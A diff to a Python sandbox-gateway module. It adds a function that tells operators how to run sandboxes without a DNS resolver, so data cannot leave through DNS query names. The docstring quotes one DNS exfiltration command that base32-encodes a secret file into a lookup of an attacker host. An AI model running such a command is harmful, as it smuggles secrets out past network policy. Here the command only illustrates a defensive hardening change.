@@ -2,10 +2,16 @@
 
 The `*_API_KEY` variables hold the gateway token, never a key: SDKs put it in their
 usual header and the gateway swaps it for the real key on the way out.
+
+A sandbox that uses the proxy needs no DNS resolver: the gateway resolves every name
+(after the policy allowed it). Giving it one opens a side channel around the policy
+(data in query names, `nslookup $(base32 < secret).attacker.example`), so `dns_note`
+tells the operator how to run without one.
 """
 
 from __future__ import annotations
 
+import ipaddress
 from urllib.parse import quote, urlsplit, urlunsplit
 
 from gateway.tokens import unverified_claims
@@ -34,6 +40,28 @@ def proxy_url(proxy: str, sandbox: str, token: str) -> str:
     if parts.port:
         netloc += f":{parts.port}"
     return urlunsplit((parts.scheme or "http", netloc, "", "", ""))
+
+
+def dns_note(proxy: str) -> list[str]:
+    """Lines for the operator (not the env file): the sandbox needs no resolver, and how
+    to run it without one when the proxy address is a name."""
+    host = urlsplit(proxy if "://" in proxy else f"http://{proxy}").hostname or ""
+    lines = [
+        "# DNS: a sandbox using this proxy needs no resolver: the gateway resolves names",
+        "# after its policy allows them, and a resolver in the sandbox is a way around the",
+        "# policy (data leaves in query names). Run it without one: Kubernetes",
+        "# `dnsPolicy: None` + `dnsConfig: {nameservers: [127.0.0.1]}` (the pod's own",
+        "# loopback, where nothing answers: Kubernetes wants one nameserver), Docker",
+        "# `-v /dev/null:/etc/resolv.conf:ro`; in transparent mode, the gateway's own",
+        "# resolver (listen.dns) as the only nameserver.",
+    ]
+    try:
+        ipaddress.ip_address(host)
+    except ValueError:
+        lines.append(f"# The proxy address {host!r} is a name: without DNS the sandbox must find "
+                     "it in /etc/hosts (Kubernetes `hostAliases`, Docker `--add-host`), or use")
+        lines.append("# the gateway's IP address (its Service ClusterIP) in --proxy.")
+    return lines
 
 
 def sandbox_env(token: str, proxy: str, sandbox: str | None = None,
